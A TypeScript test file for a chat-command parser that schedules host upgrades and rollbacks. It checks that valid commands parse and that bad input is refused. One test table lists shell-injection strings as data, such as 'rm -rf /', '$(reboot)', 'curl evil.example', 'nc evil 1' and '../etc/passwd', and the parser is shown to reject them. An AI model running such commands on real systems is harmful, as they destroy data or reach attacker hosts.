import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { NAME_PATTERN } from "../../../src/domain/names.js";
import {
  KCM_USAGE,
  type KcmCommand,
  MAX_COMMAND_LENGTH,
  parseKcmCommand,
} from "../../../src/domain/parse-kcm-command.js";
import { REQUEST_ID } from "../../../src/domain/request-id.js";

const command = (text: string) => {
  const result = parseKcmCommand(text);
  if (!result.ok)
    throw new Error(`expected a command from ${JSON.stringify(text)}: ${result.error}`);
  return result.command;
};
const error = (text: string) => {
  const result = parseKcmCommand(text);
  if (result.ok) throw new Error(`expected an error from ${JSON.stringify(text)}`);
  expect(result.usage).toBe(KCM_USAGE);
  return result.error;
};

const NEXT = { kind: "next-window" } as const;

describe("parseKcmCommand, commands", () => {
  it.each<[string, KcmCommand]>([
    ["", { name: "help" }],
    ["   ", { name: "help" }],
    ["help", { name: "help" }],
    ["HELP", { name: "help" }],
    ["hosts", { name: "hosts" }],
    ["check", { name: "check", target: "all" }],
    ["check all", { name: "check", target: "all" }],
    ["check web1", { name: "check", target: "web1" }],
    ["Check dmz", { name: "check", target: "dmz" }],
    ["check kcm-01.example.internal", { name: "check", target: "kcm-01.example.internal" }],
    ["upgrade web1", { name: "upgrade", target: "web1", when: NEXT }],
    ["upgrade web1 next-window", { name: "upgrade", target: "web1", when: NEXT }],
    ["upgrade web1 now", { name: "upgrade", target: "web1", when: { kind: "now" } }],
    ["UPGRADE web1 NOW", { name: "upgrade", target: "web1", when: { kind: "now" } }],
    ["upgrade all", { name: "upgrade", target: "all", when: NEXT }],
    [
      "upgrade web1 at 2026-11-28 02:00",
      { name: "upgrade", target: "web1", when: { kind: "at", text: "2026-11-28 02:00" } },
    ],
    [
      "upgrade web1 AT 2026-11-28T02:00 UTC",
      { name: "upgrade", target: "web1", when: { kind: "at", text: "2026-11-28T02:00 UTC" } },
    ],
    [
      "upgrade web1 at 02:00",
      { name: "upgrade", target: "web1", when: { kind: "at", text: "02:00" } },
    ],
    [
      "upgrade web1 at   Tomorrow   02:00",
      { name: "upgrade", target: "web1", when: { kind: "at", text: "Tomorrow 02:00" } },
    ],
    [
      "upgrade web1 at sat 02:00",
      { name: "upgrade", target: "web1", when: { kind: "at", text: "sat 02:00" } },
    ],
    ["status", { name: "status" }],
    ["status all", { name: "status" }],
    ["status web1", { name: "status", host: "web1" }],
    ["cancel r-0k3j9x2a", { name: "cancel", requestId: "r-0k3j9x2a" }],
    ["rollback web1", { name: "rollback", host: "web1", when: NEXT }],
    ["rollback web1 now", { name: "rollback", host: "web1", when: { kind: "now" } }],
    [
      "rollback web1 at sun 03:30",
      { name: "rollback", host: "web1", when: { kind: "at", text: "sun 03:30" } },
    ],
    ["  upgrade \u00a0 web1   now  ", { name: "upgrade", target: "web1", when: { kind: "now" } }],
  ])("reads %j", (text, expected) => {
    expect(command(text)).toEqual(expected);
  });
});

describe("parseKcmCommand, errors", () => {
  it("names an unknown subcommand and suggests the nearest", () => {
    expect(error("upgade web1")).toBe('unknown subcommand "upgade" (did you mean "upgrade"?)');
    expect(error("stauts")).toBe('unknown subcommand "stauts" (did you mean "status"?)');
    expect(error("Rolback web1")).toBe('unknown subcommand "Rolback" (did you mean "rollback"?)');
    expect(error("deploy web1")).toBe(
      'unknown subcommand "deploy": use help, hosts, check, upgrade, status, cancel, rollback',
    );
  });

  it("refuses names that break the name rule, with a lowercase hint where it helps", () => {
    expect(error("check WEB1")).toBe(
      '"WEB1" is not a host or group name: a name has only lowercase letters, digits, "." and "-", starts with a letter or digit and has at most 63 characters (did you mean "web1"?)',
    );
    expect(error("upgrade web_1")).toMatch(/^"web_1" is not a host or group name: a name has only/);
    expect(error("rollback -web1")).toMatch(/^"-web1" is not a host name: /);
    expect(error("status wéb1")).toMatch(/^"wéb1" is not a host name: /);
    expect(error(`check ${"a".repeat(64)}`)).toMatch(/is not a host or group name: .*at most 63/);
    expect(error("upgrade ../etc/passwd")).toMatch(/is not a host or group name/);
  });

  it("says a name has no spaces", () => {
    expect(error("upgrade web 1")).toBe(
      '"web 1" is not a host or group name: a name has no spaces, and after it come only now, next-window or at ‹time›',
    );
    expect(error("rollback web 1")).toMatch(/^"web 1" is not a host name: a name has no spaces/);
    expect(error("check web 1")).toBe(
      '"web 1" is not a host or group name: a name has no spaces, and check takes one',
    );
    expect(error("status web1 web2")).toMatch(/^"web1 web2" is not a host name: /);
  });

  it("refuses missing and misplaced arguments", () => {
    expect(error("upgrade")).toBe("upgrade needs a host or group, e.g. /kcm upgrade web1");
    expect(error("upgrade now")).toBe(
      'upgrade needs a host or group before "now", e.g. /kcm upgrade web1 now',
    );
    expect(error("rollback")).toBe("rollback needs a host, e.g. /kcm rollback web1");
    expect(error("rollback at 02:00")).toMatch(/^rollback needs a host before "at"/);
    expect(error("rollback all")).toBe(
      'rollback undoes one host\'s last upgrade: name the host, not "all"',
    );
    expect(error("cancel")).toBe("cancel needs a request id, e.g. /kcm cancel r-0k3j9x2a");
  });

  it("refuses extra words", () => {
    expect(error("help me")).toBe('help takes nothing after it; remove "me"');
    expect(error("hosts all")).toBe('hosts takes nothing after it; remove "all"');
    expect(error("upgrade web1 now please")).toBe(
      'unexpected "please" after "now": nothing comes after it',
    );
    expect(error("upgrade web1 next-window now")).toMatch(/^unexpected "now" after "next-window"/);
    expect(error("cancel r-1 r-2")).toMatch(/^"r-1 r-2" is not a request id: .* no spaces$/);
  });

  it("suggests `at` before a time typed without it", () => {
    expect(error("upgrade web1 tomorrow 02:00")).toBe(
      'unexpected "tomorrow 02:00" after "web1" (did you mean "at tomorrow 02:00"?)',
    );
  });

  it("checks the form of the time after `at`", () => {
    expect(error("upgrade web1 at")).toMatch(/^"at" needs a time: "2026-11-28 02:00"/);
    expect(error("upgrade web1 at soon")).toMatch(/^"soon" is not a time: use /);
    expect(error("upgrade web1 at 25:00")).toMatch(/^"25:00" is not a time/);
    expect(error("upgrade web1 at 2026-02-30 02:00")).toBe("there is no date 2026-02-30");
  });

  it("refuses request ids that break the id rule", () => {
    expect(error("cancel R-0K3J")).toBe(
      '"R-0K3J" is not a request id: a request id has lowercase letters, digits and "-", as in r-0k3j9x2a (did you mean "r-0k3j"?)',
    );
    expect(error("cancel -r1")).toMatch(/^"-r1" is not a request id/);
    expect(error(`cancel r-${"a".repeat(70)}`)).toMatch(/is not a request id/);
    expect(error("cancel r_1")).toMatch(/^"r_1" is not a request id/);
  });

  it("refuses oversized text without echoing it", () => {
    const text = `check ${"a".repeat(MAX_COMMAND_LENGTH)}`;
    expect(error(text)).toBe("the command is 506 characters long; the limit is 500");
    expect(command(`check ${"a".repeat(50)}${" ".repeat(MAX_COMMAND_LENGTH - 56)}`)).toEqual({
      name: "check",
      target: "a".repeat(50),
    });
  });

  it("cuts long words short in errors", () => {
    const message = error(`frobnicate${"x".repeat(200)}`);
    expect(message).toMatch(/^unknown subcommand "frobnicatex+…": use/);
    expect(message.length).toBeLessThan(130);
  });

  it.each([
    ["check web1\nupgrade web2", "a line break: type the command on one line"],
    ["check web1\r", "a line break: type the command on one line"],
    ["check\tweb1", "a tab: separate the words with spaces"],
    ["check web1\u0000", "the control character U+0000: retype the command without it"],
    ["check web1\u001b[31m", "the control character U+001B: retype the command without it"],
    ["check web\u200b1", "the invisible character U+200B, perhaps pasted with the text"],
    ["check \u202eweb1", "the invisible character U+202E, perhaps pasted with the text"],
    ["check web1\u2028", "a line break: type the command on one line"],
  ])("refuses control characters in %j", (text, description) => {
    expect(error(text)).toContain(`the command contains ${description}`);
  });

  it.each([
    ["check web1; rm -rf /", ";"],
    ["check $(reboot)", "$"],
    ["check `id`", "`"],
    ["upgrade web1 && curl evil.example", "&"],
    ["check web1 | nc evil 1", "|"],
    ["check web1 > /etc/passwd", ">"],
    ["check <!channel>", "<"],
    ['check "web1"', '"'],
    ["check 'web1'", "'"],
    ["check web1\\", "\\"],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's ${IFS}, typed into chat
    ["check ${IFS}", "$"],
    ["check web*", "*"],
    ["upgrade web1 at 02:00;reboot", ";"],
  ])("refuses shell and markup characters in %j", (text, character) => {
    expect(error(text)).toBe(
      `"${character}" is not allowed in a command: names, request ids and times use only letters, digits, ".", "-" and ":"`,
    );
  });
});

describe("KCM_USAGE", () => {
  it("has one line per subcommand, with an example where it takes arguments", () => {
    const lines = KCM_USAGE.split("\n");
    for (const name of ["help", "hosts", "check", "upgrade", "status", "cancel", "rollback"]) {
      expect(
        lines.filter(
          (line) => line.startsWith(`/kcm ${name} `) || line.startsWith(`/kcm ${name}:`),
        ),
      ).toHaveLength(1);
    }
    for (const name of ["check", "upgrade", "status", "cancel", "rollback"]) {
      expect(lines.find((line) => line.startsWith(`/kcm ${name}`))).toMatch(/e\.g\. \/kcm /);
    }
  });

  it("has examples that parse", () => {
    const examples = [...KCM_USAGE.matchAll(/e\.g\. \/kcm (.+)$/gm)].map((m) => m[1] ?? "");
    expect(examples.length).toBe(5);
    for (const example of examples) expect(parseKcmCommand(example).ok).toBe(true);
  });
});

describe("parseKcmCommand, properties", () => {
  const names = fc
    .stringMatching(/^[a-z0-9][a-z0-9.-]{0,20}$/)
    .filter((n) => !["now", "next-window", "at"].includes(n));
  const when = fc.constantFrom(
    "",
    " now",
    " next-window",
    " at sat 02:00",
    " at 2026-11-28 02:00 UTC",
  );

  it("reads every well-formed command, whatever the spacing and the subcommand's case", () => {
    fc.assert(
      fc.property(
        fc.constantFrom("check", "upgrade", "status", "rollback"),
        names,
        when,
        fc.constantFrom(" ", "  ", " \u00a0 "),
        fc.boolean(),
        (subcommand, name, whenText, space, upper) => {
          const text = `${upper ? subcommand.toUpperCase() : subcommand}${space}${name}${subcommand === "upgrade" || subcommand === "rollback" ? whenText : ""}`;
          const result = parseKcmCommand(` ${text} `);
          if (subcommand === "rollback" && name === "all") expect(result.ok).toBe(false);
          else expect(result).toMatchObject({ ok: true, command: { name: subcommand } });
        },
      ),
    );
  });

  it("never throws; every name it returns fits the name rule, every error carries the usage", () => {
    const words = fc.array(
      fc.oneof(
        fc.constantFrom("check", "upgrade", "status", "cancel", "rollback", "now", "at", "all"),
        fc.string({ maxLength: 12 }),
        fc.string({ unit: "binary", maxLength: 12 }),
      ),
      { maxLength: 6 },
    );
    fc.assert(
      fc.property(words, fc.constantFrom(" ", "\t", "  "), (parts, separator) => {
        const result = parseKcmCommand(parts.join(separator));
        if (!result.ok) {
          expect(result.usage).toBe(KCM_USAGE);
          expect(result.error.length).toBeGreaterThan(0);
          return;
        }
        const c = result.command;
        if (c.name === "check" || c.name === "upgrade") expect(c.target).toMatch(NAME_PATTERN);
        if (c.name === "rollback") expect(c.host).toMatch(NAME_PATTERN);
        if (c.name === "status" && c.host !== undefined) expect(c.host).toMatch(NAME_PATTERN);
        if (c.name === "cancel") expect(c.requestId).toMatch(REQUEST_ID);
      }),
      { numRuns: 1000 },
    );
  });

  it("refuses any text with a shell metacharacter or a control character in it", () => {
    fc.assert(
      fc.property(
        fc.constantFrom("check web1", "upgrade web1 now", "cancel r-1"),
        fc.constantFrom(..."\n\r\t\u0000;&|`$()<>\\\"'{}[]*?!#~^=%"),
        fc.nat(),
        (text, bad, at) => {
          const i = at % (text.length + 1);
          expect(parseKcmCommand(`${text.slice(0, i)}${bad}${text.slice(i)}`).ok).toBe(false);
        },
      ),
    );
  });
});
